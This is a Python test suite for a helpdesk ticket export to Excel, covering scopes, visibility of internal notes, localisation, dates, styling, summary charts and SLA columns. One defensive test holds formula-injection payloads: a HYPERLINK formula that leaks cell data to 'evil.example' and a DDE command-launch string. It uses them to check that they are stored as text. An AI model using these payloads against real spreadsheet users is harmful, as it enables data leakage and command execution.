"""The export workbook, written from a real database and read back with calamine and openpyxl."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
from openpyxl.worksheet import _writer as openpyxl_writer
from sqlalchemy import insert

from bot.config import load_settings
from exports.scope import ExportScope
from exports.workbook import ExportJob, write_workbook
from handlers.i18n import Translator
from storage.domain import Actor, Status, Visibility
from storage.models import Ticket
from storage.people import People, Profile
from storage.queries import TicketFilter
from storage.roles import Roles
from storage.tickets import NewTicket, TicketService
from tests.exports.readback import read_back

CATEGORIES = load_settings({}, dotenv=False).categories
ANA, BEN, ADMIN = Actor("U0REPORTER", "ana"), Actor("U0BEN", "ben"), Actor("U0ADMIN", "admin")
CARLOS, MARIA = Actor("U0CARLOS", "carlos"), Actor("U0MARIA", "maria")
SECRET = "Router firmware 1.2 is buggy (internal only)"
EN_TICKET_HEADERS = [
    "Number",
    "Title",
    "Description",
    "Reporter",
    "Reporter email",
    "Engineer",
    "Category",
    "Priority",
    "Status",
    "Incident",
    "Created",
    "Updated",
    "Closed",
    "Time to resolution (hours)",
    "Resolution due",
    "SLA",
    "Rating (1-5)",
    "Notes (visible to reporter)",
    "Internal notes",
]
EN_HISTORY_HEADERS = ["Ticket", "When", "Who", "Event", "From", "To", "Note", "Visibility", "Files"]


@pytest.fixture
def people(db) -> People:
    people = People(db)
    people.remember(Profile("U0REPORTER", "ana", "Ana Gómez", "ana@example.com"))
    people.remember(Profile("U0BEN", "ben", "Ben Ortiz", "ben@example.com"))
    people.remember(Profile("U0ADMIN", "admin", "Alex Admin", "admin@example.com"))
    people.add_engineer(Profile("U0CARLOS", "carlos", "Carlos Pérez", "carlos@example.com"), "Redes")
    people.add_engineer(Profile("U0MARIA", "maria", "María López"), "Hardware")
    return people


@pytest.fixture
def service(db, people) -> TicketService:
    return TicketService(db, roles=Roles(db, {"U0ADMIN"}), categories=[c.key for c in CATEGORIES])


@pytest.fixture
def helpdesk(service) -> dict[str, int]:
    """Four tickets from two reporters: one resolved with notes of both kinds, one in progress."""

    def new(actor, title, category, priority, description="Details of the problem"):
        return service.create(actor, NewTicket(title, description, category, priority))[0].id

    vpn = new(ANA, "VPN drops every hour", "software", "critical")
    service.assign(vpn, "U0CARLOS", ADMIN)
    service.add_note(vpn, CARLOS, SECRET, Visibility.INTERNAL)
    service.add_note(vpn, CARLOS, "We are on it", Visibility.PUBLIC)
    service.close(vpn, CARLOS, "Firmware updated")
    printer = new(ANA, "Printer jams", "printers", "low", "Paper jam on floor 3. " * 20)
    monitor = new(BEN, "Monitor flickers", "hardware", "high")
    service.assign(monitor, "U0MARIA", ADMIN)
    service.change_status(monitor, Status.IN_PROGRESS, MARIA)
    excel = new(BEN, "Need Excel licence", "software", "medium")
    return {"vpn": vpn, "printer": printer, "monitor": monitor, "excel": excel}


def export(db, tmp_path, scope="all", *, language="en", zone="UTC", flt=None, **options):
    job = ExportJob(ExportScope.parse(scope), flt or TicketFilter(), Translator(language), zone, CATEGORIES)
    (tmp_path / "out").mkdir(exist_ok=True)
    result = write_workbook(db, job, tmp_path / "out" / "export.xlsx", **options)
    return result, read_back(result.path)


def near(a: datetime, b: datetime) -> bool:
    return abs(a - b) < timedelta(milliseconds=2)


def test_an_admin_export_holds_every_ticket_its_history_and_internal_notes(db, tmp_path, helpdesk):
    result, book = export(db, tmp_path)
    assert book.book.sheetnames == list(book.sheets) == ["Tickets", "History", "Incidents", "Summary"]
    assert book.rows("Tickets")[0] == EN_TICKET_HEADERS
    assert book.rows("History")[0] == EN_HISTORY_HEADERS
    tickets = book.records("Tickets")
    assert [t["Number"] for t in tickets] == ["TKT-000001", "TKT-000002", "TKT-000003", "TKT-000004"]
    assert result.tickets == 4 and len(book.rows("History")) - 1 == result.events == 10
    vpn = tickets[0]
    assert (vpn["Reporter"], vpn["Reporter email"], vpn["Engineer"]) == (
        "Ana Gómez",
        "ana@example.com",
        "Carlos Pérez",
    )
    assert (vpn["Category"], vpn["Priority"], vpn["Status"]) == ("Software", "Critical", "Closed")
    assert isinstance(vpn["Time to resolution (hours)"], float)
    assert "We are on it" in vpn["Notes (visible to reporter)"]
    assert "Firmware updated" in vpn["Notes (visible to reporter)"]
    assert SECRET not in vpn["Notes (visible to reporter)"] and SECRET in vpn["Internal notes"]
    assert tickets[2]["Engineer"] == "María López" and tickets[2]["Status"] == "In progress"
    assert tickets[3]["Engineer"] is None and tickets[3]["Time to resolution (hours)"] is None

    history = [h for h in book.records("History") if h["Ticket"] == "TKT-000001"]
    assert [h["Event"] for h in history] == ["Created", "Assigned", "Note", "Note", "Closed"]
    assert (history[1]["Who"], history[1]["To"]) == ("Alex Admin", "Carlos Pérez")
    assert (history[2]["Note"], history[2]["Visibility"]) == (SECRET, "Internal")
    assert (history[4]["From"], history[4]["To"], history[4]["Note"]) == (
        "Open",
        "Closed",
        "Firmware updated",
    )

    # openpyxl reads the same cells calamine does.
    ws = book.book["Tickets"]
    for row, expected in zip(
        ws.iter_rows(min_row=2, values_only=True), book.rows("Tickets")[1:], strict=True
    ):
        for value, other in zip(row, expected, strict=True):
            if isinstance(value, datetime):
                assert near(value, other)
            else:
                assert (value if value is not None else "") == other


def test_a_reporters_export_never_holds_internal_notes_or_other_peoples_tickets(db, tmp_path, helpdesk):
    _, book = export(db, tmp_path, "reporter:U0REPORTER")
    assert book.rows("Tickets")[0] == EN_TICKET_HEADERS[:-1]  # no internal notes column at all
    assert [t["Title"] for t in book.records("Tickets")] == ["VPN drops every hour", "Printer jams"]
    assert {h["Visibility"] for h in book.records("History")} == {"Public"}
    assert [h["Event"] for h in book.records("History")] == [
        "Created",
        "Assigned",
        "Note",
        "Closed",
        "Created",
    ]
    assert SECRET not in book.all_text() and "Monitor flickers" not in book.all_text()
    # Not hidden somewhere in the file either (a comment, a hidden sheet, a cached string).
    assert not [p for p in book.parts() if p.endswith(".xml") and "internal only" in book.part(p)]
    summary = dict((row[0], row[1]) for row in book.rows("Summary") if row and row[0])
    assert summary["Scope"] == "Tickets reported by Ana Gómez" and summary["Tickets"] == 2


def test_an_engineers_export_holds_the_tickets_assigned_to_them(db, tmp_path, helpdesk):
    _, book = export(db, tmp_path, "engineer:U0CARLOS")
    (vpn,) = book.records("Tickets")
    assert vpn["Title"] == "VPN drops every hour" and SECRET in vpn["Internal notes"]
    assert {h["Ticket"] for h in book.records("History")} == {"TKT-000001"}


def test_filters_narrow_the_export(db, tmp_path, helpdesk):
    flt = TicketFilter(statuses=("open", "in_progress"), priorities=("high", "low"))
    result, book = export(db, tmp_path, flt=flt)
    assert [t["Title"] for t in book.records("Tickets")] == ["Printer jams", "Monitor flickers"]
    assert result.filter_text == "Open, In progress, High, Low"
    # A forged scope field in the filter is overridden by the scope.
    _, mine = export(db, tmp_path, "reporter:U0BEN", flt=TicketFilter(reporter_id="U0REPORTER"))
    assert [t["Reporter"] for t in mine.records("Tickets")] == ["Ben Ortiz", "Ben Ortiz"]


def test_spanish_headers_sheet_names_and_words(db, tmp_path, helpdesk):
    _, book = export(db, tmp_path, language="es")
    assert list(book.sheets) == ["Tickets", "Historial", "Incidentes", "Resumen"]
    assert book.rows("Tickets")[0] == [
        "Número",
        "Título",
        "Descripción",
        "Solicitante",
        "Correo del solicitante",
        "Ingeniero",
        "Categoría",
        "Prioridad",
        "Estado",
        "Incidente",
        "Creado",
        "Actualizado",
        "Cerrado",
        "Tiempo de resolución (horas)",
        "Vence (solución)",
        "SLA",
        "Valoración (1-5)",
        "Notas (visibles al solicitante)",
        "Notas internas",
    ]
    assert book.rows("Historial")[0] == [
        "Ticket",
        "Fecha",
        "Quién",
        "Evento",
        "De",
        "A",
        "Nota",
        "Visibilidad",
        "Archivos",
    ]
    vpn = book.records("Tickets")[0]
    assert (vpn["Estado"], vpn["Prioridad"], vpn["Categoría"]) == ("Cerrado", "Crítica", "Software")
    assert book.records("Historial")[2]["Visibilidad"] == "Interna"
    assert book.book["Tickets"]["K2"].number_format == "dd/mm/yyyy hh:mm"
    labels = [row[0] for row in book.rows("Resumen")]
    assert {"Estado", "Prioridad", "Categoría", "Ingeniero", "Promedio", "Mediana"} <= set(labels)


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "#N/A",
]


def test_formula_looking_text_is_stored_as_text_never_as_a_formula(db, tmp_path, people, service):
    for title in FORMULAS:
        service.create(ANA, NewTicket(title, "=cmd|' /C calc'!A0", "other", "low"))
    # Tab and carriage return survive in names Slack gives us (titles are trimmed).
    people.remember(Profile("U0TAB", "tab", "\tTab Person", "\r=evil@example.com"))
    service.create(Actor("U0TAB"), NewTicket("Tabbed reporter", "d", "other", "low"))
    _, book = export(db, tmp_path)

    ws = book.book["Tickets"]
    titles = [ws.cell(row=r, column=2) for r in range(2, 2 + len(FORMULAS))]
    assert [c.value for c in titles] == FORMULAS
    assert all(c.data_type == "s" and c.quotePrefix for c in titles)
    assert all(ws.cell(row=r, column=3).data_type == "s" for r in range(2, 2 + len(FORMULAS)))
    tab_row = ws.max_row
    assert ws.cell(row=tab_row, column=4).value == "\tTab Person"
    assert ws.cell(row=tab_row, column=5).value == "\n=evil@example.com"  # XML keeps no lone CR
    assert ws.cell(row=tab_row, column=5).data_type == "s"
    assert [r[1] for r in book.rows("Tickets")[1 : 1 + len(FORMULAS)]] == FORMULAS  # calamine agrees
    for part in book.parts():
        if part.startswith("xl/worksheets/sheet"):
            assert "<f>" not in book.part(part) and "<f " not in book.part(part), part


def test_characters_xml_forbids_are_removed_not_fatal(db, tmp_path, service):
    service.create(
        ANA, NewTicket("Bell\x07 in title", "esc\x1b[31m red\x0b\x0c text\x1f end", "other", "low")
    )
    _, book = export(db, tmp_path)
    ticket = book.records("Tickets")[0]
    assert ticket["Title"] == "Bell in title"
    assert ticket["Description"] == "esc[31m red text end"


def test_dates_are_real_excel_datetimes_in_the_workspace_time_zone(db, tmp_path, helpdesk, service):
    bogota = ZoneInfo("America/Bogota")
    stored = service.get(helpdesk["vpn"], "U0ADMIN")
    _, book = export(db, tmp_path, zone="America/Bogota")
    created = book.book["Tickets"]["K2"]
    assert created.is_date and created.number_format == "yyyy-mm-dd hh:mm"
    assert near(created.value, stored.created_at.astimezone(bogota).replace(tzinfo=None))
    assert near(
        book.records("Tickets")[0]["Closed"], stored.closed_at.astimezone(bogota).replace(tzinfo=None)
    )
    assert isinstance(book.records("History")[0]["When"], datetime)
    assert book.book["History"]["B2"].is_date
    summary = {row[0]: row[1] for row in book.rows("Summary") if row and row[0]}
    assert summary["Time zone"] == "America/Bogota" and isinstance(summary["Generated"], datetime)


def test_header_is_bold_coloured_frozen_filtered_and_columns_sized(db, tmp_path, helpdesk):
    _, book = export(db, tmp_path)
    ws = book.book["Tickets"]
    header = ws["A1"]
    assert header.font.b and header.fill.fgColor.rgb.endswith("1F4E78")
    assert ws.freeze_panes == "A2" and book.book["History"].freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:S5" and book.book["History"].auto_filter.ref == "A1:I11"
    widths = {letter: ws.column_dimensions[letter].width for letter in "ABCDEFGHIJKLMNO"}
    assert all(8 <= w <= 60 for w in widths.values())
    assert widths["A"] == 12 and widths["C"] > widths["H"]
    printer, vpn = ws["C3"], ws["B2"]
    assert printer.alignment.wrap_text and not vpn.alignment.wrap_text  # only long text wraps


def _timed_tickets(db, now: datetime) -> None:
    """Tickets with known ages and resolution times (inserted as rows: the service stamps 'now')."""
    People(db).add_engineer(Profile("U0CARLOS", "carlos", "Carlos Pérez"), "Redes")
    People(db).add_engineer(Profile("U0MARIA", "maria", "María López"), "Hardware")
    People(db).remember(Profile("U0REPORTER", "ana", "Ana Gómez"))
    specs = [  # (status, engineer, created hours ago, resolved after hours)
        ("closed", "U0CARLOS", 100, 2),
        ("closed", "U0CARLOS", 90, 4),
        ("closed", "U0MARIA", 80, 12),
        ("open", None, 2, None),
        ("open", None, 48, None),
        ("in_progress", "U0CARLOS", 240, None),
        ("on_hold", "U0CARLOS", 960, None),
    ]
    rows = []
    for status, engineer, age, resolved in specs:
        created = now - timedelta(hours=age)
        closed = created + timedelta(hours=resolved) if resolved else None
        rows.append(
            dict(
                reporter_id="U0REPORTER",
                engineer_id=engineer,
                title=f"{status} ticket",
                description="d",
                category="network",
                priority="high",
                status=status,
                version=1,
                created_at=created,
                updated_at=closed or created,
                closed_at=closed,
            )
        )
    with db.transaction() as session:
        session.execute(insert(Ticket), rows)


def test_summary_counts_resolution_times_open_ages_and_charts(db, tmp_path):
    _timed_tickets(db, datetime.now(timezone.utc))
    _, book = export(db, tmp_path)
    rows = book.rows("Summary")
    values = {row[0]: row[1] for row in rows if row and row[0]}
    assert values["Tickets"] == 7
    assert (values["Open"], values["In progress"], values["On hold"], values["Closed"]) == (2, 1, 1, 3)
    assert (values["High"], values["Low"], values["Network"]) == (7, 0, 7)
    assert values["Average"] == pytest.approx(6.0) and values["Median"] == pytest.approx(4.0)
    assert values["Resolved tickets"] == 3
    ages = ["Under 1 day", "1 to 3 days", "3 to 7 days", "7 to 30 days", "Over 30 days"]
    assert [values[a] for a in ages] == [1, 1, 0, 1, 1]
    engineers = [row[:2] for row in rows[rows.index(["Engineer", "Tickets"]) + 1 :][:3]]
    assert engineers == [["Carlos Pérez", 4], ["María López", 1], ["Unassigned", 2]]

    charts = book.book["Summary"]._charts
    assert len(charts) == 2
    assert [p for p in book.parts() if p.startswith("xl/charts/")] == [
        "xl/charts/chart1.xml",
        "xl/charts/chart2.xml",
    ]
    status_chart, engineer_chart = book.part("xl/charts/chart1.xml"), book.part("xl/charts/chart2.xml")
    assert "<barChart>" in status_chart and "<strRef><f>'Summary'!$A$9:$A$12</f>" in status_chart
    assert "'Summary'!$B$9:$B$12" in status_chart and "Tickets by status" in status_chart
    assert '<barDir val="bar"' in engineer_chart and "Tickets by engineer" in engineer_chart
    assert book.records("Tickets")[0]["Time to resolution (hours)"] == pytest.approx(2.0)


def test_chunks_report_progress_and_keep_every_row_in_order(db, tmp_path, service):
    for i in range(25):
        service.create(ANA, NewTicket(f"Problem {i}", "d", "other", "low"))
    calls = []
    result, book = export(
        db, tmp_path, progress=lambda done, expected: calls.append((done, expected)), chunk=10
    )
    assert calls == [(0, 25), (10, 25), (20, 25), (25, 25)]
    assert [t["Title"] for t in book.records("Tickets")] == [f"Problem {i}" for i in range(25)]
    assert result.events == 25 and len(book.rows("History")) == 26


def test_long_tables_continue_on_more_sheets_with_the_same_header(db, tmp_path, service):
    for i in range(7):
        service.create(ANA, NewTicket(f"Problem {i}", "d", "other", "low"))
    _, book = export(db, tmp_path, chunk=3, max_rows=4)  # header + 3 rows per sheet
    assert list(book.sheets) == [
        "Tickets",
        "Tickets (2)",
        "Tickets (3)",
        "History",
        "History (2)",
        "History (3)",
        "Incidents",
        "Summary",
    ]
    tickets = [book.sheets[n] for n in ("Tickets", "Tickets (2)", "Tickets (3)")]
    assert all(rows[0] == EN_TICKET_HEADERS for rows in tickets)
    assert [r[1] for rows in tickets for r in rows[1:]] == [f"Problem {i}" for i in range(7)]
    assert book.book["Tickets (3)"].auto_filter.ref == "A1:S2"


def test_an_empty_export_is_a_valid_workbook_with_headers(db, tmp_path, helpdesk):
    result, book = export(db, tmp_path, flt=TicketFilter(statuses=("on_hold",)))
    assert result.tickets == 0 and book.rows("Tickets") == [EN_TICKET_HEADERS]
    assert len(book.book["Summary"]._charts) == 1  # no engineers, no engineer chart


def test_an_aborted_export_leaves_no_file_behind(db, tmp_path, helpdesk):
    temporary = list(openpyxl_writer.ALL_TEMP_FILES)

    def stop(done, expected):
        if done:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        export(db, tmp_path, progress=stop)
    assert list((tmp_path / "out").iterdir()) == []
    assert temporary == openpyxl_writer.ALL_TEMP_FILES


def test_each_ticket_shows_its_resolution_due_time_and_sla_state(db, tmp_path, people):
    from storage.sla import ServiceLevels

    now = datetime.now(timezone.utc)
    clock = [now - timedelta(days=3)]
    levels = ServiceLevels.parse("24/7", None, "UTC")  # critical: 4 h to resolve, round the clock
    service = TicketService(
        db, roles=Roles(db, {"U0ADMIN"}), categories=["software"], levels=levels, clock=lambda: clock[0]
    )
    late = service.create(ANA, NewTicket("Late one", "d", "software", "critical"))[0].id
    fixed = service.create(ANA, NewTicket("Fixed in time", "d", "software", "critical"))[0].id
    service.assign(fixed, "U0CARLOS", ADMIN)
    service.close(fixed, CARLOS, "Done within the hour")
    clock[0] = now
    fresh = service.create(BEN, NewTicket("Just filed", "d", "software", "critical"))[0].id

    _, book = export(db, tmp_path)
    by_number = {r["Number"]: r for r in book.records("Tickets")}
    sla = {n: by_number[f"TKT-{n:06d}"]["SLA"] for n in (late, fixed, fresh)}
    assert sla == {late: "Breached", fixed: "Met", fresh: "On track"}
    due = by_number[f"TKT-{fresh:06d}"]["Resolution due"]
    assert isinstance(due, datetime) and near(due, (now + timedelta(hours=4)).replace(tzinfo=None))
